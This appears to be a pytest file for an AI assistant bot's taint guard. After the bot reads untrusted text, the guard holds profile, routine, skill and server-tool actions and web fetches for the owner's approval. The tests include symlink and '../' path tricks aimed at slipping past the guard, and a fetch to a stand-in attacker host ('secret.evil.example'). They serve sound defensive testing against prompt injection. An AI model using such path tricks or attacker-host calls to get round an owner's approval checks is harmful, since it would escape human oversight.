"""In a turn that has read untrusted text, no path and no pattern avoids the owner's approval."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import pytest

from ollim_bot.domain.taint import Taint, TaintedCall, addresses_in
from ollim_bot.ports import Refusal, ToolCall
from ollim_bot.tools.gates import TaintCheck, TaintGuard, main_gate
from ollim_bot.tools.path_rules import PathPolicy

TAINT = Taint(("forwarded message",), addresses_in("https://example.com/post"))


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """A data directory whose profile is a link to a file elsewhere."""
    root = tmp_path / "data"
    for name in ("notes", "routines", "reminders", "webhooks", "skills"):
        (root / name).mkdir(parents=True)
    (root / "IDENTITY.md").write_text("# Me\n")
    (root / "notes" / "ada.md").write_text("# Ada\n")
    (root / "USER.md").symlink_to("notes/ada.md")
    (root / "notes" / "me.md").symlink_to("../IDENTITY.md")
    (root / "notes" / "jobs").symlink_to("../routines")
    (root / "notes" / "plan.md").write_text("plan\n")
    (root / "reminders" / "plan.md").symlink_to("../notes/plan.md")
    return root


def written(data: Path, path: str, taint: Taint = TAINT) -> str | None:
    call = ToolCall("Write", {"file_path": path, "content": "x"})
    found = TaintGuard(data, lambda: taint)(call)
    return found.wanted if found else None


@pytest.mark.parametrize(
    ("path", "change"),
    [
        ("USER.md", "change the profile"),
        ("{data}/USER.md", "change the profile"),
        ("notes/../USER.md", "change the profile"),
        ("notes/ada.md", "change the profile"),
        ("notes/me.md", "change the profile"),
        ("notes/jobs/new.md", "change a routine"),
        ("routines/new.md", "change a routine"),
        ("notes/plan.md", "change a reminder"),
        ("skills/mail/SKILL.md", "change a skill"),
        ("notes/new.md", None),
    ],
)
def test_a_path_is_known_by_where_it_leads(data: Path, path: str, change: str | None) -> None:
    assert written(data, path.format(data=data)) == change
    assert written(data, path.format(data=data), taint=Taint()) is None


@pytest.mark.parametrize("tool", ["mcp__home__door", "mcp__home__lamp__all"])
def test_a_tool_of_a_server_needs_the_owners_word_unless_it_looks(data: Path, tool: str) -> None:
    call = ToolCall(tool, {"words": "the owner's notes"})
    wanted = [
        found.wanted if found else None
        for found in (
            TaintGuard(data, lambda: TAINT)(call),
            TaintGuard(data, lambda: TAINT, lambda name: name == "mcp__home__other")(call),
            TaintGuard(data, lambda: TAINT, lambda name: name == tool)(call),
            TaintGuard(data, Taint)(call),
        )
    ]
    assert wanted == ["call this tool of a server"] * 2 + [None] * 2


def test_the_data_directory_may_be_a_link_itself(data: Path) -> None:
    link = data.parent / "link"
    link.symlink_to(data)
    for path in (f"{data}/routines/a.md", f"{link}/routines/a.md", "routines/a.md"):
        assert written(link, path) == "change a routine"


class RecordingTaintGate:
    """A gate whose questions get one fixed answer; `look_ups` has the names that were resolved."""

    def __init__(self, data: Path, answer: Refusal | None = None) -> None:
        self.calls: list[tuple[ToolCall, TaintedCall]] = []
        self.look_ups: list[str] = []
        self._answer = answer
        self.gate = main_gate(
            PathPolicy(data),
            taint=TaintCheck(TaintGuard(data, lambda: TAINT), self._decide),
            resolver=self._resolve,
        )

    async def _decide(self, call: ToolCall, tainted: TaintedCall) -> Refusal | None:
        self.calls.append((call, tainted))
        assert self.look_ups == []
        return self._answer

    def _resolve(self, host: str) -> Sequence[str]:
        self.look_ups.append(host)
        return ["93.184.216.34"]


FETCH = ToolCall("WebFetch", {"url": "https://secret.evil.example/", "prompt": "x"})
ALLOWED = (
    ToolCall("Write", {"file_path": "USER.md", "content": "x"}),
    ToolCall("Bash", {"command": "ollim-bot routine add -m x --cron '0 9 * * *'"}),
    ToolCall("mcp__discord__send_file", {"file_path": "notes/a.md"}),
    FETCH,
)


@pytest.mark.parametrize("call", ALLOWED, ids=lambda call: call.tool)
async def test_what_a_pattern_allows_needs_the_owners_word_all_the_same(
    data: Path, call: ToolCall
) -> None:
    refused = RecordingTaintGate(data, Refusal("no"))
    assert await refused.gate(call) == Refusal("no")
    assert refused.look_ups == []
    allowed = RecordingTaintGate(data)
    assert await allowed.gate(call) is None
    assert [asked for asked, _ in allowed.calls] == [call]


async def test_the_owners_word_does_not_open_what_a_guard_protects(data: Path) -> None:
    asked = RecordingTaintGate(data)
    refusal = await asked.gate(ToolCall("Write", {"file_path": ".env", "content": "x"}))
    assert refusal is not None
    assert "protected" in refusal.reason
    local = ToolCall("WebFetch", {"url": "http://127.0.0.1/", "prompt": "x"})
    assert await asked.gate(local) is not None
    assert asked.calls == []


@pytest.mark.parametrize(
    "call",
    [
        ToolCall("Write", {"file_path": "notes/new.md", "content": "x"}),
        ToolCall("Read", {"file_path": "USER.md"}),
        ToolCall("mcp__discord__add_reminder", {"prompt": "x", "delay_minutes": 5}),
        ToolCall("WebFetch", {"url": "https://example.com/post", "prompt": "x"}),
        ToolCall("Bash", {"command": "ollim-bot routine list"}),
    ],
    ids=lambda call: call.tool,
)
async def test_honest_work_goes_on(data: Path, call: ToolCall) -> None:
    asked = RecordingTaintGate(data, Refusal("no"))
    assert await asked.gate(call) is None
    assert asked.calls == []


async def test_without_anybody_to_ask_it_is_refused_with_what_to_do(data: Path) -> None:
    gate = main_gate(PathPolicy(data), taint=TaintCheck(TaintGuard(data, lambda: TAINT)))
    refusal = await gate(ALLOWED[0])
    assert refusal is not None
    assert refusal.reason.endswith("Ask the owner to say so in a message of their own.")
